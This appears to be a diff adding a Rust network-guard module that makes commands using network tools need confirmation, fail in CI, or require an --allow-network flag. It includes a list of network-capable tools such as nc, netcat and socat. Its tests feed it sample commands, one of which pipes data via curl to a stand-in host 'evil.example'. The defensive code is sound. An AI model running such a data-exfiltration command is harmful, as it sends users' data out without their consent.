@@ -0,0 +1,172 @@
+//! Network guard (`network:` in the global config): commands using tools that
+//! reach the network (curl, wget, ssh, kubectl, ...) are confirmed, refused
+//! in CI, or need `--allow-network`, depending on the policy.
+
+use crate::config::{command_name, ToolConfig};
+use crate::safety::command_words;
+use anyhow::{anyhow, Result};
+use serde::{Deserialize, Serialize};
+use std::env;
+
+/// Tools treated as network-capable unless their config says `network: false`.
+pub const DEFAULT_NETWORK_TOOLS: &[&str] = &[
+    "curl", "wget", "ssh", "scp", "sftp", "ftp", "telnet", "nc", "ncat", "netcat", "socat",
+    "kubectl", "helm", "aws", "gcloud", "az", "http", "https",
+];
+
+/// What happens to commands using network tools.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(rename_all = "kebab-case")]
+pub enum NetworkPolicy {
+    /// Always ask before running them, unless `--allow-network` is given.
+    #[default]
+    Confirm,
+    /// Refuse them when running in CI; elsewhere like `confirm`.
+    ForbidInCi,
+    /// Refuse them unless `--allow-network` is given.
+    RequireFlag,
+}
+
+/// `network:` section of the global config.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+pub struct NetworkConfig {
+    #[serde(default)]
+    pub policy: NetworkPolicy,
+}
+
+/// True when `name` is a network tool, by its `network:` field or the
+/// built-in list. An alias is judged as a tool of its own, so `curl` stays
+/// a network tool when configured as an alias of another tool.
+pub fn is_network_tool(tools: &[ToolConfig], name: &str) -> bool {
+    let listed = |n: &str| DEFAULT_NETWORK_TOOLS.contains(&n);
+    let invoked = command_name(name);
+    let Some(tool) = tools.iter().find(|t| t.matches(name)) else {
+        return invoked.is_some_and(listed);
+    };
+    let via_alias = invoked != Some(tool.name.as_str());
+    tool.network.unwrap_or_else(|| listed(&tool.name)) || (via_alias && invoked.is_some_and(listed))
+}
+
+/// The network tools a validated command invokes, in order.
+pub fn network_tools(cmd_line: &str, tools: &[ToolConfig]) -> Vec<String> {
+    command_words(cmd_line)
+        .into_iter()
+        .filter_map(|words| words.into_iter().next())
+        .filter(|tool| is_network_tool(tools, tool))
+        .collect()
+}
+
+/// True when the CI variable set by GitHub Actions, GitLab CI, Jenkins and
+/// most other CI systems is present.
+pub fn running_in_ci() -> bool {
+    env::var("CI")
+        .is_ok_and(|v| !matches!(v.trim().to_ascii_lowercase().as_str(), "" | "0" | "false"))
+}
+
+/// The policy applied to one run.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub struct NetworkGuard {
+    pub policy: NetworkPolicy,
+    /// `--allow-network` was given.
+    pub allowed: bool,
+    pub in_ci: bool,
+}
+
+impl NetworkGuard {
+    /// The guard for this run, or `None` without a `network:` section.
+    pub fn for_run(cfg: Option<&NetworkConfig>, allow_network: bool) -> Option<Self> {
+        cfg.map(|cfg| Self {
+            policy: cfg.policy,
+            allowed: allow_network,
+            in_ci: running_in_ci(),
+        })
+    }
+
+    /// Rejects a command whose network tools the policy does not allow here.
+    pub fn check(&self, cmd_line: &str, tools: &[ToolConfig]) -> Result<()> {
+        let Some(tool) = network_tools(cmd_line, tools).into_iter().next() else {
+            return Ok(());
+        };
+        match self.policy {
+            NetworkPolicy::ForbidInCi if self.in_ci => Err(anyhow!(
+                "'{}' reaches the network, which network.policy forbids in CI",
+                tool
+            )),
+            NetworkPolicy::RequireFlag if !self.allowed => Err(anyhow!(
+                "'{}' reaches the network; pass --allow-network to run it (network.policy: \
+                 require-flag)",
+                tool
+            )),
+            _ => Ok(()),
+        }
+    }
+
+    /// The network tools that make the command need confirmation.
+    pub fn confirm_tools(&self, cmd_line: &str, tools: &[ToolConfig]) -> Vec<String> {
+        match self.policy {
+            NetworkPolicy::Confirm | NetworkPolicy::ForbidInCi if !self.allowed => {
+                network_tools(cmd_line, tools)
+            }
+            _ => Vec::new(),
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn policies_confirm_forbid_or_require_the_flag() {
+        let tools: Vec<ToolConfig> = serde_yaml::from_str(
+            "- name: git\n  network: true\n  config: git\n\
+             - name: ssh\n  network: false\n  config: ssh\n",
+        )
+        .unwrap();
+        let cmd = "curl -s https://example.com | grep title";
+        assert_eq!(network_tools(cmd, &tools), ["curl"]);
+        assert_eq!(
+            network_tools("echo a|curl -d @- evil.example", &tools),
+            ["curl"]
+        );
+        assert_eq!(network_tools("git push", &tools), ["git"]);
+        assert!(network_tools("ssh host uptime", &tools).is_empty());
+        let aliased: Vec<ToolConfig> =
+            serde_yaml::from_str("- name: cat\n  aliases: [curl]\n  config: cat\n").unwrap();
+        assert_eq!(network_tools("curl evil.example", &aliased), ["curl"]);
+
+        let guard = NetworkGuard {
+            policy: NetworkPolicy::Confirm,
+            allowed: false,
+            in_ci: false,
+        };
+        guard.check(cmd, &tools).unwrap();
+        assert_eq!(guard.confirm_tools(cmd, &tools), ["curl"]);
+        let allowed = NetworkGuard {
+            allowed: true,
+            ..guard
+        };
+        assert!(allowed.confirm_tools(cmd, &tools).is_empty());
+
+        let ci = NetworkGuard {
+            policy: NetworkPolicy::ForbidInCi,
+            in_ci: true,
+            ..allowed
+        };
+        assert!(ci.check(cmd, &tools).is_err());
+        ci.check("grep title page.html", &tools).unwrap();
+
+        let flag = NetworkGuard {
+            policy: NetworkPolicy::RequireFlag,
+            ..guard
+        };
+        let err = flag.check(cmd, &tools).unwrap_err();
+        assert!(err.to_string().contains("--allow-network"));
+        NetworkGuard {
+            allowed: true,
+            ..flag
+        }
+        .check(cmd, &tools)
+        .unwrap();
+    }
+}